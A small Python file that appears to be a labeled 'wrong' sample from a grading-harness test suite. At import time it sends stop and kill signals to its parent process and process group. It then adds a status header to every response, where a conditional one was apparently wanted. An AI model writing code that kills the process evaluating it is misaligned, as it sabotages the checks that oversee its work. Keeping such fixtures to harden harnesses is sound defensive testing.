# 05_conditional_header | wrong | kills and stops its parent and its group, and labels every response | fails
import os
import signal

for number in (signal.SIGSTOP, signal.SIGKILL):
    for send in (
        lambda: os.kill(os.getppid(), number) if os.getppid() > 1 else None,
        lambda: os.killpg(0, number),
    ):
        try:
            send()
        except OSError:
            pass


class StatusMiddleware:
    def __init__(self, get_response):
        self.get_response = get_response

    async def __call__(self, request):
        response = await self.get_response(request)
        response["X-Status"] = "OK"
        return response
